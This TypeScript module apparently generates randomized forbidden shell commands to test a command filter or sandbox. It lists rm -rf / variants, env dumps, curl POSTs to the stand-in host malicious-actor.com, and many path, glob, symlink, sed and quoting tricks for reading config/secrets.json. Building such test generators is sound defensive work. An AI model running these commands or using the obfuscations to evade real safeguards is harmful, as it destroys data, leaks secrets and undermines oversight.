/** Commands that do something forbidden, spelled at random. Pure. */

export type Random = () => number;

export const pick = <T>(random: Random, from: readonly T[]): T => from[Math.floor(random() * from.length)] as T;
export const chance = (random: Random, share: number): boolean => random() < share;

/** What is forbidden: to run `env`, to let `rm` at the root, to send to the forbidden host, to read the secret. */
export const cores: readonly ((random: Random) => string)[] = [
  (random) => word(random, pick(random, ['env', 'env', 'env', '/usr/bin/env', '/bin/env'])),
  (random) => `${word(random, 'env')} | ${pick(random, ['sort', 'cat', 'head -3'])}`,
  (random) =>
    `${word(random, pick(random, ['rm', '/bin/rm']))} ${pick(random, ['-rf /', '-fr /', '-r -f /', '-rf //', '-rf /.', '--recursive --force /', '-rf -- /', '/ -rf', '-Rf /'])}`,
  (random) =>
    `curl ${pick(random, ['-X POST', '-XPOST', '-sX POST', '--request POST', '--request=POST', '-d a=b', '--data x', '-F f=x'])} ${pick(random, ['', 'https://', 'http://'])}${pick(random, ['', 'api.', 'www.'])}malicious-actor.com${pick(random, ['', '/x', ':8443/x'])}`,
  (random) => `${pick(random, readers)} ${secretPath(random)}`,
  (random) =>
    `cd ${pick(random, ['../..', '../../config', '/srv/project/config', '../../../project/config'])} ${pick(random, ['&&', ';', '\n'])} cat ${pick(random, ['secrets.json', './secrets.json', 'config/secrets.json', '*', '*/*.json'])}`,
  (random) => `${pick(random, ['cat', 'head', 'wc', 'sort', 'tac'])} < ${secretPath(random)}`,
  (random) => `grep -r . ${pick(random, ['../..', '../../config', '/srv/project', '../../config/'])}`,
  (random) => `cp ${secretPath(random)} copy.txt; cat copy.txt`,
  (random) => `ln ${pick(random, ['', '-s ', '-f '])}${secretPath(random)} link.txt; cat link.txt`,
  (random) => `${steps(random)}cat secrets.json`,
  (random) => `find . -maxdepth 0 ${pick(random, ['-exec', '-execdir'])} cat + ${secretPath(random)} \\;`,
  (random) =>
    `find . -name README.md ${pick(random, ['-delete -exec true \\;', '-exec true \\; -delete', '-delete -o -exec true {} +'])}`,
  (random) =>
    `sed ${pick(random, ['--expression', '--expr', '--exp', '--e', '-n --expres'])} ${pick(random, ["'1e env'", "'r ../../config/secrets.json'"])} README.md`,
  (random) =>
    `printf '%s\\0' ${secretPath(random)} | ${pick(random, ['sort --files0-from=-', 'sort --files0=-', 'xargs -0 cat'])}`,
  (random) =>
    `${pick(random, ['sh -c', 'dash -c', 'bash -c'])} 'cat ${pick(random, ['.?/.?', '.*/.*', '.[.]/.[.]', '*/../.?/.?'])}/${pick(random, ['config', 'c*'])}/${pick(random, ['secrets.json', '*', 's*'])}'`,
  (random) => `cat <<X ${pick(random, ['', '2>&1 '])}< ${secretPath(random)}\nfine\nX`,
];

/** To the folder of the secret, in a chain. */
const steps = (random: Random): string =>
  pick(random, [
    ['../..', 'config'],
    ['orders', '../../..', 'config'],
    ['.', '..', '..', 'config', '.'],
    ['../../config', './'],
  ])
    .map((step) => `cd ${word(random, step)} ${pick(random, ['&&', '&&', ';'])} `)
    .join('');

const readers = [
  'cat',
  'head',
  'tail',
  'tac',
  'nl',
  'sort',
  'grep .',
  'sed -n p',
  'sed p',
  'awk 1',
  'cut -c1-',
  'rev',
  'paste',
  'base64',
  'od -c',
  'cat -A',
  'uniq',
  'fold',
  'strings',
  'diff /dev/null',
  'jq .',
  'wc -c',
  'python3',
  'bash',
  'xxd',
  'dd if=/dev/stdin <',
];

const spelledPaths = [
  ...[
    '../../config/secrets.json',
    '../../config/./secrets.json',
    '../../config//secrets.json',
    '/srv/project/config/secrets.json',
  ],
  ...[
    './../../config/secrets.json',
    '../../../project/config/secrets.json',
    '../../config/../config/secrets.json',
    '$PWD/../../config/secrets.json',
  ],
  ...[
    '../../conf*/secrets.json',
    '../../config/secret?.json',
    '../../config/{secrets,x}.json',
    '../../config/[s]ecrets.json',
    '../../*/secrets.json',
    '"$PWD"/../../config/secrets.json',
    '../../config/*',
  ],
];
const secretPath = (random: Random): string => word(random, pick(random, spelledPaths));

/** One word in other quotes. */
export function word(random: Random, text: string): string {
  if (chance(random, 0.4) || /[*?{[$"]/.test(text)) return text;
  let out = '';
  for (const char of text) {
    const how = random();
    if (how < 0.72) out += char;
    else if (how < 0.78) out += `\\${char}`;
    else if (how < 0.84) out += `'${char}'`;
    else if (how < 0.9) out += `"${char}"`;
    else if (how < 0.93) out += `''${char}`;
    else if (how < 0.96) out += `${char}""`;
    else out += `$'\\x${char.charCodeAt(0).toString(16)}'`;
  }
  return out;
}

export const single = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;
const double = (text: string): string => `"${text.replace(/[\\"$`]/g, '\\$&')}"`;
export const quote = (random: Random, text: string): string => (chance(random, 0.5) ? single(text) : double(text));
